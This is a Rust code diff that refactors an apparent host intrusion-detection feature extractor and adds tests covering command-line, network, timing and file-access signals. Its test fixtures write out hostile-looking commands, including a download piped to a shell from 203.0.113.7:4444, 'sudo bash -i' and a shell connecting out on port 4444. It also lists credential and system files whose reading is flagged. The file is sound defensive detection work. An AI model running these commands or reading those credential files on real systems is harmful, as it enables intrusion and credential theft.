+const CHMOD_EXEC: usize = indicator("cmd_chmod_exec");
+const SPAWN_SHELL: usize = indicator("cmd_spawn_shell");
+const SHELL_ESCAPE: usize = indicator("cmd_shell_escape");
+const SUDO: usize = indicator("cmd_sudo");
+
+/// Command line: indicators, shape and what is derived from them.
+fn command_line(v: &mut Vector, ev: &Event, who: &Subject) -> CommandLine {
+    let cmd = match &ev.detail {
         Some(Detail::Exec(x)) => {
             let line = x.argv.join(" ");
-            (MATCHER.scan(&line), cmd_numeric(&x.argv, &line), line)
+            CommandLine {
+                indicators: MATCHER.scan(&line),
+                shape: cmd_shape(&x.argv, &line),
+                line,
+            }
         }
-        _ => known
-            .as_ref()
-            .map_or((0, [0.0; CMD_NUMERIC], String::new()), |p| {
-                (p.indicators, p.cmd_numeric, String::new())
-            }),
+        _ => who.known.as_ref().map_or(
+            CommandLine {
+                indicators: 0,
+                shape: [0.0; CmdShape::LEN],
+                line: String::new(),
+            },
+            |p| CommandLine {
+                indicators: p.indicators,
+                shape: p.cmd_shape,
+                line: String::new(),
+            },
+        ),
     };
     for i in 0..INDICATORS.len() {
-        v[at::IND + i] = flag(indicators & (1 << i) != 0);
+        v.flag(Feature::Indicator(i), cmd.has(i));
     }
-    v[at::CMD_NUM..at::CMD_NUM + CMD_NUMERIC].copy_from_slice(&numeric);
-    let ind = |name: &str| {
-        INDICATORS
-            .iter()
-            .position(|i| i.name == name)
-            .is_some_and(|i| indicators & (1 << i) != 0)
-    };
-    let d = at::CMD_DERIVED;
-    v[d] = flag(
-        ind("cmd_downloader")
-            && (ind("cmd_pipe_to_shell") || ind("cmd_chmod_exec") || ind("cmd_spawn_shell")),
+    for (f, x) in CmdShape::ALL.iter().zip(cmd.shape) {
+        v.set(*f, x);
+    }
+    v.flag(
+        CmdDerived::DownloadExec,
+        cmd.has(DOWNLOADER)
+            && (cmd.has(PIPE_TO_SHELL) || cmd.has(CHMOD_EXEC) || cmd.has(SPAWN_SHELL)),
     );
     let (mut ip_lit, mut port_lit, mut sus_port) = (false, false, false);
-    for t in tokens(&line) {
+    for t in tokens(&cmd.line) {
         if is_ip_literal(t) {
             ip_lit = true;
         } else if let Ok(p) = t.parse::<u32>()
@@ -522,194 +825,205 @@ fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
             sus_port |= SUSPICIOUS_PORTS.contains(&p);
         }
     }
-    v[d + 1] = flag(ip_lit);
-    v[d + 2] = flag(port_lit);
-    v[d + 3] = flag(sus_port);
-    v[d + 4] = flag(
-        (ind("cmd_sudo") || lexicon::has(pfam, Family::Privilege))
-            && (ind("cmd_spawn_shell") || ind("cmd_shell_escape")),
+    v.flag(CmdDerived::IpLiteral, ip_lit);
+    v.flag(CmdDerived::PortLiteral, port_lit);
+    v.flag(CmdDerived::SuspiciousPortLiteral, sus_port);
+    v.flag(
+        CmdDerived::SudoShell,
+        (cmd.has(SUDO) || lexicon::has(who.pfam, Family::Privilege))
+            && (cmd.has(SPAWN_SHELL) || cmd.has(SHELL_ESCAPE)),
     );
+    cmd
+}
 
-    // Network.
-    let n = at::NET;
-    if let Some(Detail::Connect(c)) = &ev.detail {
-        let port = c.remote_port;
-        ctx.port = port;
-        ctx.remote = c.remote_ip.clone();
-        v[n] = log2p(f64::from(port));
-        v[n + 1] = flag(COMMON_PORTS.contains(&port));
-        v[n + 2] = flag(SUSPICIOUS_PORTS.contains(&port));
-        v[n + 3] = flag(port >= 32768);
-        v[n + 4] = flag(port < 1024);
-        match c.remote_ip.parse::<IpAddr>() {
-            Ok(IpAddr::V4(ip)) => {
-                v[n + 5] = flag(ip.is_private() || ip.is_link_local());
-                v[n + 6] = flag(ip.is_loopback());
-                v[n + 7] = flag(!(ip.is_private() || ip.is_link_local() || ip.is_loopback()));
-            }
-            Ok(IpAddr::V6(ip)) => {
-                let local = (ip.segments()[0] & 0xfe00) == 0xfc00;
-                v[n + 5] = flag(local);
-                v[n + 6] = flag(ip.is_loopback());
-                v[n + 7] = flag(!local && !ip.is_loopback());
-                v[n + 8] = 1.0;
-            }
-            Err(_) => {}
-        }
-        let port_seen = h.ports.get(&port).map_or(0, |s| s.count);
-        let rkey = fnv(&[c.remote_ip.as_bytes()]);
-        let remote_seen = h.remotes.get(&rkey).map_or(0, |s| s.count);
-        v[n + 9] = flag(port_seen == 0);
-        v[n + 10] = flag(remote_seen == 0);
-        v[n + 11] = log2p(f64::from(port_seen));
-        v[n + 12] = log2p(f64::from(remote_seen));
-        v[n + 13] = flag(shellish);
-        let networky = [
-            Family::Downloader,
-            Family::NetTool,
-            Family::WebServer,
-            Family::Database,
-            Family::PackageManager,
-            Family::Compiler,
-            Family::CiRunner,
-            Family::Init,
-        ];
-        v[n + 14] = flag(!comm.is_empty() && !networky.iter().any(|f| lexicon::has(fam, *f)));
-        v[n + 15] =
-            flag(lexicon::has(anc, Family::WebServer) && !lexicon::has(fam, Family::WebServer));
-        bump(&mut h.ports, port, now);
-        bump_u64(&mut h.remotes, rkey, now);
-        h.connects.push(now, l.window);
-        if let Some(p) = h.procs.get(&ev.pid).cloned() {
-            h.procs.insert(
-                ev.pid,
-                Proc {
-                    connected: true,
-                    ..p
-                },
-            );
-        }
+/// Programs whose connections are their work.
+const NETWORKY: [Family; 8] = [
+    Family::Downloader,
+    Family::NetTool,
+    Family::WebServer,
+    Family::Database,
+    Family::PackageManager,
+    Family::Compiler,
+    Family::CiRunner,
+    Family::Init,
+];
+
+#[allow(clippy::too_many_arguments)]
+fn network(
+    v: &mut Vector,
+    h: &mut HostState,
+    l: &Limits,
+    ev: &Event,
+    c: &Connect,
+    who: &Subject,
+    ancestors: u32,
+    ctx: &mut Context,
+) {
+    let now = ev.ts_ns;
+    let port = c.remote_port;
+    ctx.port = port;
+    ctx.remote = c.remote_ip.clone();
+    v.set(Net::PortLog2, log2p(f64::from(port)));
+    v.flag(Net::PortCommon, COMMON_PORTS.contains(&port));
+    v.flag(Net::PortSuspicious, SUSPICIOUS_PORTS.contains(&port));
+    v.flag(Net::PortEphemeral, port >= 32768);
+    v.flag(Net::PortPrivileged, port < 1024);
+    if let Ok(ip) = c.remote_ip.parse::<IpAddr>() {
+        let class = AddrClass::of(ip);
+        v.flag(Net::RemotePrivate, class == AddrClass::Private);
+        v.flag(Net::RemoteLoopback, class == AddrClass::Loopback);
+        v.flag(Net::RemotePublic, class == AddrClass::Public);
+        v.flag(Net::Ipv6, ip.is_ipv6());
     }
-
-    // Temporal.
-    let t = at::TEMPORAL;
-    v[t] = h.execs.count(now, SEC) as f32;
-    v[t + 1] = h.execs.count(now, 10 * SEC) as f32;
-    v[t + 2] = h.execs.count(now, 60 * SEC) as f32;
-    v[t + 3] = h.connects.count(now, 60 * SEC) as f32;
-    v[t + 4] = h.writes.count(now, 60 * SEC) as f32;
-    v[t + 5] = h.sensitive.count(now, 60 * SEC) as f32;
-    let pkey = fnv(&[comm.as_bytes(), exe.as_bytes()]);
-    let prog = h.programs.get(&pkey).copied();
-    v[t + 6] = flag(prog.is_none());
-    v[t + 7] = prog.map_or(40.0, |s| {
-        log2p(now.saturating_sub(s.last_ns) as f64 / SEC as f64)
-    });
-    v[t + 8] = parent.as_ref().map_or(-1.0, |p| {
-        log2p(now.saturating_sub(p.start_ns) as f64 / SEC as f64)
-    });
-    v[t + 9] = h
-        .children
-        .get(&ppid)
-        .map_or(0.0, |w| w.count(now, 10 * SEC) as f32);
-
-    // File integrity.
-    let f = at::FILE;
-    if let Some(Detail::Open(o)) = &ev.detail {
-        let p = o.path.as_str();
-        ctx.path = p.to_string();
-        let write = o.flags & 0o3 != 0 || o.flags & 0o3100 != 0;
-        v[f] = flag(write);
-        v[f + 1] = flag(o.flags & 0o100 != 0);
-        v[f + 2] = flag(p.starts_with("/etc/"));
-        v[f + 3] = flag(p.contains("cron") || p.starts_with("/var/spool/at"));
-        v[f + 4] = flag(
-            [
-                "/bin/",
-                "/sbin/",
-                "/usr/bin/",
-                "/usr/sbin/",
-                "/usr/local/bin/",
-                "/usr/lib/",
-                "/lib/",
-            ]
-            .iter()
-            .any(|d| p.starts_with(d)),
-        );
-        v[f + 5] = flag(p.ends_with("authorized_keys") || p.ends_with("authorized_keys2"));
-        v[f + 6] = flag(p.contains("/.ssh/"));
-        v[f + 7] = flag(p.starts_with("/etc/shadow") || p.starts_with("/etc/gshadow"));
-        v[f + 8] = flag(p == "/etc/passwd" || p == "/etc/group");
-        v[f + 9] = flag(p.starts_with("/etc/sudoers"));
-        v[f + 10] = flag(p.contains("/systemd/") || p.starts_with("/etc/init.d"));
-        v[f + 11] = flag(in_tmp(p));
-        v[f + 12] = flag(p.contains("/."));
-        v[f + 13] = flag(p.starts_with("/etc/ld.so"));
-        v[f + 14] = flag(p.starts_with("/proc/"));
-        v[f + 15] = flag(p.starts_with("/var/log/"));
-        v[f + 16] = flag(p.starts_with("/boot/") || p.starts_with("/lib/modules"));
-        v[f + 17] = flag(
-            p.ends_with(".bashrc")
-                || p.ends_with(".profile")
-                || p.ends_with(".bash_profile")
-                || p.ends_with(".zshrc")
-                || p.starts_with("/etc/profile"),
-        );
-        let cred = [
-            ".aws/credentials",
-            ".kube/config",
-            ".pgpass",
-            ".netrc",
-            ".git-credentials",
-            ".docker/config.json",
-            "id_rsa",
-            "id_ed25519",
-            "id_ecdsa",
-            ".gnupg/",
-            "/etc/ssl/private",
-        ]
-        .iter()
-        .any(|c| p.contains(c));
-        v[f + 18] = flag(cred);
-        v[f + 19] = flag(p.starts_with("/var/www") || p.starts_with("/srv/www"));
-        let dir = p.rsplit_once('/').map_or(p, |(d, _)| d);
-        let dkey = fnv(&[dir.as_bytes()]);
-        if write {
-            v[f + 20] = flag(h.write_dirs.get(&dkey).is_none());
-            bump_u64(&mut h.write_dirs, dkey, now);
-            h.writes.push(now, l.window);
-        }
-        if !write && (cred || v[f + 7] > 0.0 || v[f + 9] > 0.0) {
-            h.sensitive.push(now, l.window);
-        }
-    }
-
-    // Take the event in.
-    bump_u64(&mut h.programs, pkey, now);
-    if is_exec {
-        h.execs.push(now, l.window);
-        let window = l.window;
-        h.children
-            .entry(ppid, Default::default)
-            .push(now, window.min(64));
+    let port_seen = h.ports.get(&port).map_or(0, |s| s.count);
+    let rkey = fnv(&[c.remote_ip.as_bytes()]);
+    let remote_seen = h.remotes.get(&rkey).map_or(0, |s| s.count);
+    v.flag(Net::PortFirstSeen, port_seen == 0);
+    v.flag(Net::RemoteFirstSeen, remote_seen == 0);
+    v.set(Net::PortSeenLog2, log2p(f64::from(port_seen)));
+    v.set(Net::RemoteSeenLog2, log2p(f64::from(remote_seen)));
+    v.flag(Net::ByShellOrInterpreter, who.shellish());
+    v.flag(
+        Net::ByNonNetworkProgram,
+        !who.comm.is_empty() && !NETWORKY.iter().any(|f| lexicon::has(who.fam, *f)),
+    );
+    v.flag(
+        Net::ByWebDescendant,
+        lexicon::has(ancestors, Family::WebServer) && !lexicon::has(who.fam, Family::WebServer),
+    );
+    bump(&mut h.ports, port, now);
+    bump_u64(&mut h.remotes, rkey, now);
+    h.connects.push(now, l.window);
+    if let Some(p) = h.procs.get(&ev.pid).cloned() {
         h.procs.insert(
             ev.pid,
             Proc {
-                ppid,
-                comm: comm.clone(),
-                parent_comm: parent_comm.clone(),
-                uid: ev.uid,
-                start_ns: now,
-                families: fam,
-                indicators,
-                cmd_numeric: numeric,
-                connected: false,
+                connected: true,
+                ..p
             },
         );
     }
-    Features {
-        values: v,
-        context: ctx,
+}
+
+fn temporal(v: &mut Vector, h: &HostState, now: u64, program: u64, who: &Subject) {
+    v.set(Temporal::Execs1s, h.execs.count(now, SEC) as f32);
+    v.set(Temporal::Execs10s, h.execs.count(now, 10 * SEC) as f32);
+    v.set(Temporal::Execs60s, h.execs.count(now, 60 * SEC) as f32);
+    v.set(
+        Temporal::Connects60s,
+        h.connects.count(now, 60 * SEC) as f32,
+    );
+    v.set(Temporal::Writes60s, h.writes.count(now, 60 * SEC) as f32);
+    v.set(
+        Temporal::SensitiveReads60s,
+        h.sensitive.count(now, 60 * SEC) as f32,
+    );
+    let prog = h.programs.get(&program).copied();
+    v.flag(Temporal::ProgramFirstSeen, prog.is_none());
+    v.set(
+        Temporal::ProgramIdleLog2s,
+        prog.map_or(40.0, |s| {
+            log2p(now.saturating_sub(s.last_ns) as f64 / SEC as f64)
+        }),
+    );
+    v.set(
+        Temporal::ParentAgeLog2s,
+        who.parent.as_ref().map_or(-1.0, |p| {
+            log2p(now.saturating_sub(p.start_ns) as f64 / SEC as f64)
+        }),
+    );
+    v.set(
+        Temporal::Siblings10s,
+        h.children
+            .get(&who.ppid)
+            .map_or(0.0, |w| w.count(now, 10 * SEC) as f32),
+    );
+}
+
+/// Files whose reading is credential access.
+const CREDENTIALS: &[&str] = &[
+    ".aws/credentials",
+    ".kube/config",
+    ".pgpass",
+    ".netrc",
+    ".git-credentials",
+    ".docker/config.json",
+    "id_rsa",
+    "id_ed25519",
+    "id_ecdsa",
+    ".gnupg/",
+    "/etc/ssl/private",
+];
+
+const BIN_DIRS: &[&str] = &[
+    "/bin/",
+    "/sbin/",
+    "/usr/bin/",
+    "/usr/sbin/",
+    "/usr/local/bin/",
+    "/usr/lib/",
+    "/lib/",
+];
+
+fn file(v: &mut Vector, h: &mut HostState, l: &Limits, o: &Open, now: u64, ctx: &mut Context) {
+    let p = o.path.as_str();
+    ctx.path = p.to_string();
+    let write = OpenMode::of(o.flags).writes();
+    v.flag(File::Write, write);
+    v.flag(File::Create, o.flags & oflags::O_CREAT != 0);
+    v.flag(File::Etc, p.starts_with("/etc/"));
+    v.flag(
+        File::Cron,
+        p.contains("cron") || p.starts_with("/var/spool/at"),
+    );
+    v.flag(File::BinDir, BIN_DIRS.iter().any(|d| p.starts_with(d)));
+    v.flag(
+        File::AuthorizedKeys,
+        p.ends_with("authorized_keys") || p.ends_with("authorized_keys2"),
+    );
+    v.flag(File::SshDir, p.contains("/.ssh/"));
+    v.flag(
+        File::Shadow,
+        p.starts_with("/etc/shadow") || p.starts_with("/etc/gshadow"),
+    );
+    v.flag(File::Passwd, p == "/etc/passwd" || p == "/etc/group");
+    v.flag(File::Sudoers, p.starts_with("/etc/sudoers"));
+    v.flag(
+        File::Systemd,
+        p.contains("/systemd/") || p.starts_with("/etc/init.d"),
+    );
+    v.flag(File::Tmp, in_tmp(p));
+    v.flag(File::Hidden, p.contains("/."));
+    v.flag(File::LdPreload, p.starts_with("/etc/ld.so"));
+    v.flag(File::Proc, p.starts_with("/proc/"));
+    v.flag(File::VarLog, p.starts_with("/var/log/"));
+    v.flag(
+        File::BootModules,
+        p.starts_with("/boot/") || p.starts_with("/lib/modules"),
+    );
+    v.flag(
+        File::Profile,
+        p.ends_with(".bashrc")
+            || p.ends_with(".profile")
+            || p.ends_with(".bash_profile")
+            || p.ends_with(".zshrc")
+            || p.starts_with("/etc/profile"),
+    );
+    let cred = CREDENTIALS.iter().any(|c| p.contains(c));
+    v.flag(File::Credentials, cred);
+    v.flag(
+        File::WebRoot,
+        p.starts_with("/var/www") || p.starts_with("/srv/www"),
+    );
+    let dir = p.rsplit_once('/').map_or(p, |(d, _)| d);
+    let dkey = fnv(&[dir.as_bytes()]);
+    if write {
+        v.flag(File::DirFirstWrite, h.write_dirs.get(&dkey).is_none());
+        bump_u64(&mut h.write_dirs, dkey, now);
+        h.writes.push(now, l.window);
+    }
+    if !write && (cred || v.get(File::Shadow) > 0.0 || v.get(File::Sudoers) > 0.0) {
+        h.sensitive.push(now, l.window);
     }
 }
 
@@ -764,6 +1078,333 @@ mod tests {
             .position(|n| n == name)
             .unwrap_or_else(|| panic!("{name}"));
         f.values[i]
+    }
+
+    /// A fixture: an event and the features it is written to show.
+    struct Step(Event, Vec<Feature>);
+
+    fn at_t(mut e: Event, t: u64) -> Event {
+        e.ts_ns = t;
+        e
+    }
+
+    fn with(mut e: Event, exe: &str, cwd: &str, gid: u32) -> Event {
+        e.exe = exe.into();
+        e.gid = gid;
+        if let Some(Detail::Exec(x)) = &mut e.detail {
+            x.cwd = cwd.into();
+        }
+        e
+    }
+
+    fn connect(pid: u32, comm: &str, ip: &str, port: u32) -> Event {
+        Event {
+            org: "o".into(),
+            workload: "w".into(),
+            host: "h".into(),
+            pid,
+            comm: comm.into(),
+            detail: Some(Detail::Connect(Connect {
+                remote_ip: ip.into(),
+                remote_port: port,
+                ..Connect::default()
+            })),
+            ..Event::default()
+        }
+    }
+
+    fn open_file(path: &str, flags: u32) -> Event {
+        Event {
+            org: "o".into(),
+            workload: "w".into(),
+            host: "h".into(),
+            pid: 900,
+            comm: "tee".into(),
+            detail: Some(Detail::Open(Open {
+                path: path.into(),
+                flags,
+                ..Open::default()
+            })),
+            ..Event::default()
+        }
+    }
+
+    /// Events written to show every feature, in the order one host sees them.
+    fn fixtures() -> Vec<Step> {
+        use Feature as F;
+        let sh = |pid, ppid, parent: &str, uid, line: &str| {
+            exec(pid, ppid, "sh", parent, uid, &["sh", "-c", line], 0)
+        };
+        let mut steps = vec![
+            Step(
+                exec(100, 1, "nginx", "systemd", 0, &["nginx"], 0),
+                vec![
+                    Head::KindExec.into(),
+                    Head::UidRoot.into(),
+                    Temporal::ProgramFirstSeen.into(),
+                    Placement::CommLen.into(),
+                    Ancestry::Depth.into(),
+                ],
+            ),
+            Step(
+                exec(101, 100, "sh", "nginx", 33, &["sh", "-c", "id"], 0),
+                vec![
+                    Head::UidService.into(),
+                    Head::UidDiffersFromParent.into(),
+                    Ancestry::WebServer.into(),
+                    Ancestry::ShellUnderService.into(),
+                    Temporal::ParentAgeLog2s.into(),
+                    Temporal::Execs1s.into(),
+                    Temporal::Execs10s.into(),
+                    Temporal::Execs60s.into(),
+                ],
+            ),
+            Step(
+                exec(102, 101, "bash", "sh", 33, &["bash", "-i"], 0),
+                vec![Ancestry::Shells.into()],
+            ),
+            Step(
+                exec(103, 101, "id", "sh", 33, &["id"], 0),
+                vec![Temporal::Siblings10s.into()],
+            ),
+            Step(
+                connect(102, "bash", "203.0.113.7", 4444),
+                vec![
+                    Head::KindConnect.into(),
+                    Net::PortLog2.into(),
+                    Net::PortSuspicious.into(),
+                    Net::RemotePublic.into(),
+                    Net::PortFirstSeen.into(),
+                    Net::RemoteFirstSeen.into(),
+                    Net::ByShellOrInterpreter.into(),
+                    Net::ByWebDescendant.into(),
+                    Temporal::Connects60s.into(),
+                ],
+            ),
+            Step(
+                connect(102, "bash", "203.0.113.7", 4444),
+                vec![Net::PortSeenLog2.into(), Net::RemoteSeenLog2.into()],
+            ),
+            Step(
+                exec(200, 10, "cat", "sshd", 1000, &["cat"], 0),
+                vec![Head::UidUser.into(), Ancestry::Sshd.into()],
+            ),
+            Step(
+                connect(200, "cat", "10.0.0.1", 443),
+                vec![
+                    Net::ByNonNetworkProgram.into(),
+                    Net::RemotePrivate.into(),
+                    Net::PortCommon.into(),
+                    Net::PortPrivileged.into(),
+                ],
+            ),
+            Step(
+                connect(200, "cat", "127.0.0.1", 40000),
+                vec![Net::RemoteLoopback.into(), Net::PortEphemeral.into()],
+            ),
+            Step(
+                connect(200, "cat", "2001:db8::1", 443),
+                vec![Net::Ipv6.into()],
+            ),
+            Step(
+                exec(201, 200, "su", "cat", 0, &["su"], 0),
+                vec![Head::RootUnderNonRootParent.into()],
+            ),
+            Step(
+                with(
+                    exec(202, 10, "id", "sshd", 1000, &["id"], 0),
+                    "/usr/bin/id",
+                    "/",
+                    0,
+                ),
+                vec![Head::GidRoot.into(), Placement::CwdRoot.into()],
+            ),
+            Step(
+                exec(300, 1, "python3", "cron", 0, &["python3", "-c", "1"], 0),
+                vec![Ancestry::Cron.into(), Ancestry::ShellUnderCron.into()],
+            ),
+            Step(
+                sh(301, 300, "python3", 0, "true"),
+                vec![Ancestry::Interpreters.into()],
+            ),
+            Step(
+                exec(400, 1, "bash", "postgres", 70, &["bash"], 0),
+                vec![Ancestry::Database.into()],
+            ),
+            Step(
+                exec(401, 1, "make", "gitlab-runner", 999, &["make"], 0),
+                vec![Ancestry::Ci.into()],
+            ),
+            Step(
+                with(exec(500, 1, "x", "sh", 0, &["x"], 0), "/tmp/x", "/tmp", 1),
+                vec![
+                    Placement::ExeInTmp.into(),
+                    Placement::ExeNonstandardDir.into(),
+                    Placement::CwdTmp.into(),
+                ],
+            ),
+            Step(
+                with(
+                    exec(501, 1, "y", "sh", 0, &["y"], 0),
+                    "/usr/bin/.y",
+                    "/var/www/html",
+                    1,
+                ),
+                vec![Placement::ExeHidden.into(), Placement::CwdWebRoot.into()],
+            ),
+            Step(
+                with(
+                    exec(502, 1, "kworker", "sh", 0, &["kworker"], 0),
+                    "/usr/bin/miner",
+                    "",
+                    1,
+                ),
+                vec![Placement::CommExeMismatch.into()],
+            ),
+            Step(
+                sh(
+                    600,
+                    1,
+                    "sshd",
+                    0,
+                    "echo \"A1\" | tr a b; x=$(id) > /tmp/out",
+                ),
+                CmdShape::ALL.iter().map(|f| (*f).into()).collect(),
+            ),
+            Step(
+                sh(601, 1, "sshd", 0, "curl http://203.0.113.7:4444/x | sh"),
+                vec![
+                    CmdDerived::DownloadExec.into(),
+                    CmdDerived::IpLiteral.into(),
+                    CmdDerived::PortLiteral.into(),
+                    CmdDerived::SuspiciousPortLiteral.into(),
+                ],
+            ),
+            Step(
+                sh(602, 1, "sshd", 0, "sudo bash -i"),
+                vec![CmdDerived::SudoShell.into()],
+            ),
+            Step(
+                exec(100, 1, "nginx", "systemd", 0, &["nginx"], 0),
+                vec![Temporal::ProgramIdleLog2s.into()],
+            ),
+            Step(
+                open_file("/etc/cron.d/job", 0o101),
+                vec![
+                    Head::KindOpen.into(),
+                    File::Write.into(),
+                    File::Create.into(),
+                    File::Etc.into(),
+                    File::Cron.into(),
+                    File::DirFirstWrite.into(),
+                ],
+            ),
+            Step(
+                open_file("/etc/shadow", 0),
+                vec![File::Shadow.into(), Temporal::Writes60s.into()],
+            ),
+            Step(
+                open_file("/etc/passwd", 0),
+                vec![File::Passwd.into(), Temporal::SensitiveReads60s.into()],
+            ),
+        ];
+        for (path, f) in [
+            ("/usr/bin/x", File::BinDir),
+            ("/root/.ssh/authorized_keys", File::AuthorizedKeys),
+            ("/root/.ssh/config", File::SshDir),
+            ("/etc/sudoers", File::Sudoers),
+            ("/etc/systemd/system/x.service", File::Systemd),
+            ("/tmp/x", File::Tmp),
+            ("/srv/.hidden", File::Hidden),
+            ("/etc/ld.so.preload", File::LdPreload),
+            ("/proc/1/maps", File::Proc),
+            ("/var/log/auth.log", File::VarLog),
+            ("/boot/vmlinuz", File::BootModules),
+            ("/root/.bashrc", File::Profile),
+            ("/root/.aws/credentials", File::Credentials),
+            ("/var/www/html/x.php", File::WebRoot),
+        ] {
+            steps.push(Step(open_file(path, 0), vec![f.into()]));
+        }
+        for (i, ind) in INDICATORS.iter().enumerate() {
+            steps.push(Step(
+                sh(700 + i as u32, 1, "sshd", 0, ind.patterns[0]),
+                vec![F::Indicator(i)],
+            ));
+        }
+        for f in FAMILIES {
+            let program = match f {
+                Family::Shell => "bash",
+                Family::Interpreter => "python",
+                Family::Downloader => "curl",
+                Family::NetTool => "nc",
+                Family::EditorPager => "vim",
+                Family::AdminTool => "systemctl",
+                Family::Recon => "whoami",
+                Family::Encoder => "xxd",
+                Family::Archiver => "tar",
+                Family::Compiler => "gcc",
+                Family::PackageManager => "apt",
+                Family::WebServer => "nginx",
+                Family::Database => "postgres",
+                Family::Cron => "cron",
+                Family::Sshd => "sshd",
+                Family::CiRunner => "gitlab-runner",
+                Family::Init => "systemd",
+                Family::Privilege => "sudo",
+            };
+            steps.push(Step(
+                exec(800 + f as u32, 1, program, program, 0, &[program], 0),
+                vec![F::ProcFamily(f), F::ParentFamily(f)],
+            ));
+        }
+        steps
+    }
+
+    #[test]
+    fn every_feature_holds_what_its_name_says_on_some_fixture() {
+        let mut x = Extractor::default();
+        let mut shown = [false; N_FEATURES];
+        for (i, Step(ev, expect)) in fixtures().into_iter().enumerate() {
+            // One event every 100 ms: windows of a second see several.
+            let ev = at_t(ev, 1_000 * SEC + i as u64 * SEC / 10);
+            let f = x.observe(&ev);
+            for want in expect {
+                assert!(
+                    f.values[want.slot()] > 0.0,
+                    "fixture {i} ({ev:?}) does not show {} (value {})",
+                    want.name(),
+                    f.values[want.slot()]
+                );
+                shown[want.slot()] = true;
+            }
+        }
+        let missing: Vec<&str> = (0..N_FEATURES)
+            .filter(|&s| !shown[s])
+            .map(|s| names()[s].as_str())
+            .collect();
+        assert!(missing.is_empty(), "no fixture shows {missing:?}");
+    }
+
+    #[test]
+    fn slots_and_names_round_trip() {
+        for s in 0..N_FEATURES {
+            let f = Feature::at(s).unwrap();
+            assert_eq!(f.slot(), s);
+            assert_eq!(f.name(), names()[s]);
+        }
+        assert_eq!(Feature::at(N_FEATURES), None);
+        assert_eq!(names()[File::Shadow.slot()], "file_shadow");
+        assert_eq!(names()[at::IND], INDICATORS[0].name);
+    }
+
+    #[test]
+    fn the_shipped_model_was_trained_on_these_features() {
+        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../models/classifier.json");
+        let text = std::fs::read_to_string(path).unwrap();
+        let m = crate::Model::from_json(&text).unwrap();
+        assert_eq!(m.meta.feature_names, names());
+        crate::load_checked(&text).unwrap();
     }
 
     #[test]
